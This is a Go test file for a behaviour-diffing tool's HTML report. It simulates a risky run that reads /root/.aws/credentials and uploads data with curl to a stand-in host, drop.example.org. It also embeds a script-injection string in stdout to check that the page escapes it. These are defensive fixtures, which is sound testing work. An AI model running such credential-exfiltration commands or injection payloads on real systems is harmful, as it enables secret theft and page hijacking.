package htmlreport_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/behavediff/behavediff/baseline"
	"github.com/behavediff/behavediff/baseline/baselinetest"
	"github.com/behavediff/behavediff/diff"
	"github.com/behavediff/behavediff/htmlreport"
	"github.com/behavediff/behavediff/internal/testenv"
	"github.com/behavediff/behavediff/report"
	"github.com/behavediff/behavediff/store"
)

var ctx = context.Background()

func writeTrace(t testing.TB, db *store.DB, tr *store.Trace) int64 {
	t.Helper()
	tr.Run.Stdout = []byte("uploading </script><script>alert(1)</script>\n") // must not break out of the page
	return baselinetest.Store(ctx, t, db, tr)
}

func from(t testing.TB, tr *store.Trace) *baseline.Baseline {
	t.Helper()
	b, err := baseline.FromTrace(tr, baseline.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// riskyRun stores a run that reads a secret and sends it out with curl,
// checked against the benign baseline as check does, and returns its id.
func riskyRun(t *testing.T, db *store.DB) int64 {
	t.Helper()
	bad := baselinetest.Benign(5)
	bad.Open(1, "/root/.aws/credentials", baselinetest.ORdonly, baselinetest.ENOENT)
	c := bad.Exec(1, "/usr/bin/curl", "curl", "-T", "-", "https://drop.example.org/u")
	bad.DNS(c, "drop.example.org", 1)
	bad.Connect(c, "192.0.2.10", 443, baselinetest.ENETUNREACH)
	bad.Change(bad.T.Run.Workspace+"/out/stolen.txt", "created", false)
	id := writeTrace(t, db, bad.T)
	tr, err := db.LoadDistinct(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	fs := diff.Compare(from(t, baselinetest.Benign(1).T), from(t, tr), diff.Context{RunID: id})
	d := report.Build(diff.Report{Specs: []diff.SpecResult{{Name: "build", RunID: id, Status: diff.StatusFor(fs, diff.Medium), Findings: fs}}},
		report.Options{Command: "check", FailOn: diff.Medium})
	if _, err := db.AddChecks(ctx, report.Checks(d, time.Now())); err != nil {
		t.Fatal(err)
	}
	return id
}

func openDB(t testing.TB) *store.DB {
	db, err := store.Open(ctx, filepath.Join(t.TempDir(), "traces.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db
}

// The gathered data holds the findings with evidence from their queries,
// the process tree with counts and timelines, and the changes.
func TestGather(t *testing.T) {
	db := openDB(t)
	id := riskyRun(t, db)
	d, err := htmlreport.Gather(ctx, db, id, htmlreport.DefaultCaps, "test")
	if err != nil {
		t.Fatal(err)
	}
	var secret *htmlreport.Finding
	for i, f := range d.Findings {
		if f.Kind == "secret-read" {
			secret = &d.Findings[i]
		}
	}
	if secret == nil || len(secret.Evidence) == 0 || !strings.Contains(strings.Join(secret.Columns, ","), "path") {
		t.Fatalf("secret-read finding without evidence: %+v", secret)
	}
	curl := false
	for _, p := range d.Processes {
		if strings.HasSuffix(p.Exe, "/curl") {
			curl = p.Counts[1] > 0 && p.Timeline != nil
		}
	}
	if !curl {
		t.Errorf("curl process without network events or timeline: %+v", d.Processes)
	}
	if !strings.Contains(fmt.Sprint(d.Changes), "/out/stolen.txt created") || len(d.Syscalls) == 0 || len(d.Events) == 0 || len(d.Limits) != 0 {
		t.Errorf("changes %v, %d syscalls, %d events, limits %v", d.Changes, len(d.Syscalls), len(d.Events), d.Limits)
	}
	// Caps apply and are stated.
	small := htmlreport.DefaultCaps
	small.Events, small.Processes = 3, 2
	d, err = htmlreport.Gather(ctx, db, id, small, "test")
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Events) != 3 || len(d.Processes) != 2 || len(d.Limits) != 2 {
		t.Errorf("capped: %d events, %d processes, limits %q", len(d.Events), len(d.Processes), d.Limits)
	}
	if _, err := htmlreport.Gather(ctx, db, 99, small, "test"); err == nil {
		t.Error("report of a missing run")
	}
}

// Headless Chromium opens the report of a risky run from file://: the page
// renders (its script ran to the end), shows the findings and the process
// tree, logs no console error, requests nothing from the network, and
// leaves a screenshot for a person to look at.
func TestReportInChromium(t *testing.T) {
	testenv.RequireBinaries(t, "chromium")
	db := openDB(t)
	id := riskyRun(t, db)
	dir := t.TempDir()
	page := filepath.Join(dir, "report.html")
	if err := htmlreport.WriteFile(ctx, db, id, page, "test"); err != nil {
		t.Fatal(err)
	}
	shot := filepath.Join(os.TempDir(), "behavediff-report-screenshot.png")
	netlog := filepath.Join(dir, "net.json")
	chromium := func(page string, extra ...string) (string, string) {
		args := append([]string{"--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
			"--disable-component-update", "--disable-sync", "--user-data-dir=" + filepath.Join(dir, "profile"),
			"--enable-logging=stderr", "--v=0", "--log-net-log=" + netlog, "--window-size=1400,2000"}, extra...)
		args = append(args, "file://"+page)
		ctx, cancel := context.WithTimeout(ctx, 2*time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, "chromium", args...)
		var out, errb bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errb
		if err := cmd.Run(); err != nil {
			t.Fatalf("chromium: %v\n%s", err, errb.String())
		}
		return out.String(), errb.String()
	}
	dom, logs := chromium(page, "--dump-dom")
	for _, want := range []string{`data-rendered="yes"`, "BD-SECRET-READ", "$HOME/.aws/credentials", `class="mono proc"`, ">curl<", "evidence"} {
		if !strings.Contains(dom, want) {
			t.Errorf("rendered page lacks %q", want)
		}
	}
	if strings.Contains(dom, "<script>alert(1)</script>") && !strings.Contains(dom, "&lt;script&gt;alert(1)") {
		t.Error("stdout was injected into the page as markup")
	}
	for _, line := range strings.Split(logs, "\n") {
		if strings.Contains(line, "CONSOLE") || strings.Contains(line, "Uncaught") || strings.Contains(line, "Content Security Policy") {
			t.Errorf("console: %s", line)
		}
	}
	if reqs := pageRequests(t, netlog); len(reqs) != 0 {
		t.Errorf("the report made network requests: %q", reqs)
	}
	// The detector sees a page's requests: a control page that loads an
	// image and fetches a URL is caught (example.invalid never resolves).
	control := filepath.Join(dir, "control.html")
	if err := os.WriteFile(control, []byte(`<img src="https://example.invalid/x.png"><script>fetch("http://example.invalid/y")</script>`), 0o644); err != nil {
		t.Fatal(err)
	}
	chromium(control, "--dump-dom")
	if reqs := pageRequests(t, netlog); len(reqs) != 2 {
		t.Errorf("control page: requests %q, want its 2: the detector is blind", reqs)
	}
	chromium(page, "--screenshot="+shot)
	if st, err := os.Stat(shot); err != nil || st.Size() < 10000 {
		t.Fatalf("screenshot: %v", err)
	}
	t.Logf("screenshot: %s", shot)
}

// pageRequests lists the non-file URLs a page requested, from Chromium's
// net log. The browser's own background requests (time, update, sign-in)
// have no origin as initiator; a page's have its origin ("null" for file://).
func pageRequests(t *testing.T, netlog string) []string {
	t.Helper()
	b, err := os.ReadFile(netlog)
	if err != nil {
		t.Fatal(err)
	}
	var log struct {
		Constants struct {
			Types map[string]int `json:"logEventTypes"`
		} `json:"constants"`
		Events []struct {
			Type   int `json:"type"`
			Params struct {
				URL       string `json:"url"`
				Initiator string `json:"initiator"`
			} `json:"params"`
		} `json:"events"`
	}
	if err := json.Unmarshal(b, &log); err != nil {
		t.Fatalf("net log: %v", err)
	}
	start, ok := log.Constants.Types["URL_REQUEST_START_JOB"]
	if !ok {
		t.Fatal("net log has no URL_REQUEST_START_JOB events type")
	}
	var out []string
	for _, e := range log.Events {
		if e.Type == start && e.Params.URL != "" && e.Params.Initiator != "not an origin" && !strings.HasPrefix(e.Params.URL, "file:") {
			out = append(out, e.Params.URL)
		}
	}
	return out
}
